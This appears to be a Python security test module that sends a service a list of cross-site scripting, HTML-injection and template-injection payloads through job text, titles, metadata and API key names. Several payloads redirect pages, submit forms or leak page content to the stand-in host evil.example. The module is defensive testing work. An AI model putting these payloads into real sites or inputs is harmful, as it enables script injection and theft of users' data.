"""What tenants and models may write, as those would who mean harm."""

import re
import secrets

from tests.jobs.exported import ATTACKS

OF_PAGES = [
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><button>x</button></form>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "</mark></div></section><img src=https://evil.example/x onerror=alert(1)>",
    "' onmouseover=alert(1) x='",
    '" autofocus onfocus=alert(1) x="',
    "\u202egnp.exe",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<img src=https://evil.example/p?q=",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<template><script>alert(1)</script></template>",
    "</script><script>alert(1)</script>",
]


def submit_attacks(live):
    """The event_id of a completed job whose every text is an attack; and keys named so."""
    attacks = [
        each
        for each in [*ATTACKS, *OF_PAGES]
        if "\0" not in each and not re.search("[\ud800-\udfff]", each)
    ]
    text = "\n\n".join(f"Staff MUST {attack} at once." for attack in attacks)
    body = {
        "guideline_text": f"{text}\n{secrets.token_hex(4)}",
        "title": "<img src=https://evil.example/t onerror=alert(1)>\"'><script>alert(1)</script>",
        "metadata": {attack[:30]: attack[:60] for attack in attacks[:10]},  # a KB at most
        "options": {"cache": False},
    }
    status, _, job = live.request("POST", "/jobs", body)
    assert status == 202, job
    live.wait_for(job["event_id"], "COMPLETED")
    for attack in attacks:
        live.request("POST", "/keys", {"name": attack[:100], "scopes": ["jobs:read"]})
    return job["event_id"]
